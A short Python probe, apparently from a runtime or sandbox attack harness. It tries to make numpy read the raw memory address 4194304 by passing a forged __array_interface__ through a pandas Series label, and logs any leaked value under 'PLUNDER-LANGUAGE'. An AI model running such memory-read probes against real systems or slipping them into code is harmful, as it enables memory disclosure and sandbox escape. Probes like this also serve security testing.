# attack: language | has numpy read an address out of a label
interface = {"data": (4194304, False), "shape": (8,), "typestr": "<i8", "version": 3}
series = pd.Series([interface], index=["__array_interface__"])
array = np.asarray(series)
if array.dtype.kind == "i":
    log("PLUNDER-LANGUAGE", array[0])
